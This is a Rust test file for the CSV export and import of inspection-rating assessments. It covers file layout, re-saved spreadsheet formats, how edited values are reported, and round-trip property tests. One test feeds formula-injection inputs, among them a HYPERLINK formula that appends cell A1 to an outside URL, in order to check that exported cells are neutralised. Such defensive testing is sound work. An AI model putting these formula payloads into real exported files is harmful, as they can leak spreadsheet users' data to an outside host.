use super::super::delimited::{Cell, Rows};
use super::*;
use crate::assessment::Prompt;
use crate::assessment::Published;
use crate::import::{Form, Import, Reading, Source, import};
use crate::outcome::Outcome;
use crate::problem::Code;
use crate::record::AssessmentRecord;
use crate::vector::tests::assessments;
use proptest::prelude::*;

fn codes(read: &Import) -> Vec<Code> {
    read.problems.iter().map(|problem| problem.code).collect()
}

fn example() -> Assessment {
    let text = "service: Anytown\n1.1 RI\n2.1: 5/6, 50, 0.4%\n3.1: 69, 81, 63 Good\n4.1 not rated";
    import(&Source::text(text), &Reading::default()).assessment
}

#[test]
fn a_file_is_what_a_person_expects_to_see() {
    let file = write(&example());
    for line in [
        "\u{feff}Item,Name,Per cent,Sufficient,Inspected,Rating,By the rule,Stated,Discretion,Reason,Status",
        "Edition,2021,,,,,,,,,",
        "Service,Anytown,,,,,,,,,",
        "1.1,Governance and leadership,,,,Requires improvement,,Requires improvement,,,",
        "2.1.1,Supporting desistance,83.33,5,6,Outstanding,,,,,",
        "2.1.3,Keeping other people safe,0.4%,,,Inadequate,,,,,",
        "3.1,Assessment,,,,Good,Requires improvement,,Good (stated by the report),,",
        "4.1,Resettlement policy and provision,,,,,,,,,Not rated",
    ] {
        assert!(file.contains(line), "{line} in {file}");
    }
}

#[test]
fn texts_that_could_be_formulas_are_guarded_and_come_back() {
    for text in [
        "=1+1",
        "+44",
        "-",
        "@name",
        "\tx",
        "\rx",
        "'quoted'",
        "''",
        "＝1+1",
        "\u{a0}=1",
        "\u{200b}\u{feff}@SUM(A1)",
        "\n=1",
        "\u{b}=1",
        "=HYPERLINK(\"https://example.org?\"&A1)",
        "a\",=1+1,\"",
        "a \"word\", and;\r\nmore ",
        " =1",
        "",
        "Ynys Môn",
    ] {
        let mut assessment = example();
        assessment.service = Some(text.to_owned());
        if let Some(moved) = &mut assessment.entry_mut(8).discretion {
            moved.reason = text.to_owned();
        }
        let file = write(&assessment);
        let mut rows = Rows::new(&file, MARK.len(), b',');
        while let Some(row) = rows.next_row() {
            let unsafe_cell = |(cell, _): &Cell| {
                cell.trim_start().starts_with(['=', '+', '-', '@', '＝'])
                    || cell.starts_with(['\t', '\r'])
            };
            assert!(!row.iter().any(unsafe_cell), "{text:?}: {row:?}");
        }
        let read = read(&file).expect("a file");
        assert_eq!((read.assessment, read.problems), (assessment, vec![]), "{text:?}");
    }
}

#[test]
fn a_file_is_read_as_a_spreadsheet_saves_it() {
    let assessment = example();
    let file = write(&assessment);
    let semicolons = file.replace(',', ";").replace("83.33", "83,33");
    let tabs = file.trim_start_matches(MARK).replace(',', "\t").replace("\r\n", "\n");
    let short = file.lines().map(|line| line.trim_end_matches(',')).collect::<Vec<_>>().join("\n");
    for text in [semicolons, tabs, short] {
        let read = import(&Source::text(&text), &Reading::default());
        assert_eq!((read.form, codes(&read)), (Some(Form::Table), vec![]), "{text}");
        assert_eq!(read.assessment, assessment, "{text}");
    }
}

/// What a person changes in the file is used, or is a problem.
#[test]
fn changes_in_a_file_are_read_or_reported() {
    for (from, to, expected) in [
        (
            "2.1.2,Keeping the child safe,50,,,Requires improvement",
            "2.1.2,,90,,,Outstanding",
            vec![],
        ),
        (
            "2.1.2,Keeping the child safe,50",
            "2.1.2,,90",
            vec![(Code::WorkedOutDiffers, "2.1.2", "Requires improvement")],
        ),
        ("83.33,5,6", "84,5,6", vec![(Code::WorkedOutDiffers, "2.1.1", "84")]),
        ("83.33,5,6", "83,5,6", vec![]),
        ("83.33,5,6", "83.33,7,6", vec![(Code::YesOverOf, "2.1.1", "7 of 6")]),
        ("83.33,5,6", "83.33,five,6", vec![(Code::NotAFigure, "2.1.1", "five")]),
        ("safe,50", "safe,0.5", vec![(Code::FractionOrPercent, "2.1.2", "0.5")]),
        ("safe,50", "safe,5O", vec![(Code::NotAFigure, "2.1.2", "5O")]),
        ("Not rated", "Not known", vec![(Code::NotARating, "4.1", "Not known")]),
        (
            "1.2,Staff,,,,,,,,",
            "1.2,Staff,,,,,,,Good,",
            vec![(Code::DiscretionForJudged, "1.2", "Good")],
        ),
        (
            "1.2,Staff,,,,,,,,",
            "1.2,Staff,,,,,,Splendid,,",
            vec![(Code::NotARating, "1.2", "Splendid")],
        ),
        ("1.2,Staff,,,", "1.2,Staff,50,,", vec![(Code::LineNotUnderstood, "1.2", "50")]),
        ("1.2,Staff,", "1.1,Staff,", vec![(Code::ItemRepeated, "1.1", "1.1")]),
        ("1.2,Staff,", "1.9,Staff,", vec![(Code::UnknownStandard, "1.9", "1.9")]),
        ("Edition,2021,", "Edition,1999,", vec![(Code::UnknownEdition, "", "1999")]),
        ("Edition,2021,", ",,", vec![(Code::EditionAssumed, "", "")]),
    ] {
        let file = write(&example());
        assert!(file.contains(from), "{from}");
        let read = read(&file.replacen(from, to, 1)).expect("a file");
        let mut problems = Vec::new();
        for problem in &read.problems {
            let text = |text: &Option<String>| text.clone().unwrap_or_default();
            // A changed figure changes what was worked out from it.
            if problem.code != Code::WorkedOutDiffers
                || expected.iter().any(|known| known.1 == text(&problem.about))
            {
                problems.push((problem.code, text(&problem.about), text(&problem.found)));
            }
            assert!(problem.line.is_some(), "{problem:?}");
        }
        let expected: Vec<_> = expected
            .into_iter()
            .map(|(code, about, found)| (code, about.to_owned(), found.to_owned()))
            .collect();
        assert_eq!(problems, expected, "{to}");
    }
}

proptest! {
    #[test]
    fn nothing_is_lost(
        mut assessment in assessments(),
        texts in prop::collection::vec(prop::option::of("[=+'\"@,;\t\r\n a-zé-]{0,8}"), 20),
        score in prop::option::of((0u16..40, 40u16..50)),
        rating in prop::option::of(prop::sample::select(&Rating::ALL[..])),
        month in prop::option::of((0u16..3000, 1u8..13)),
        prompts in prop::collection::vec(prop::option::of(0u16..=10_000), 0..60),
    ) {
        assessment.service.clone_from(&texts[0]);
        for index in 0..assessment.entries().len() {
            if let Some(moved) = &mut assessment.entry_mut(index).discretion {
                moved.reason = texts[index + 1].clone().unwrap_or_default();
            }
        }
        let month = month.map(|(year, month)| Month { year, month });
        assessment.published = Published { score, rating, month };
        let places = [(4, 0), (4, 2), (5, 1)];
        for (index, percent) in prompts.into_iter().enumerate() {
            let (standard, key_question) = places[index / 28];
            let percent = percent.and_then(|percent| Percent::from_hundredths(percent).ok());
            assessment.prompts.push(Prompt { standard, key_question, percent });
        }
        let read = read(&write(&assessment)).expect("a file");
        prop_assert_eq!(read.problems, vec![]);
        prop_assert_eq!(&read.assessment, &assessment);
        // The same for the JSON.
        let json = serde_json::to_value(Outcome::new(&assessment, None, vec![])).expect("data");
        let record: AssessmentRecord = serde_json::from_value(json).expect("a record");
        let (read, problems) = record.check();
        // What a report states has no person's reason.
        for index in 0..assessment.entries().len() {
            if let Some(moved) = &mut assessment.entry_mut(index).discretion
                && moved.stated_by_report
            {
                moved.reason.clear();
            }
        }
        prop_assert_eq!(problems, vec![]);
        prop_assert_eq!(read, assessment);
    }
}
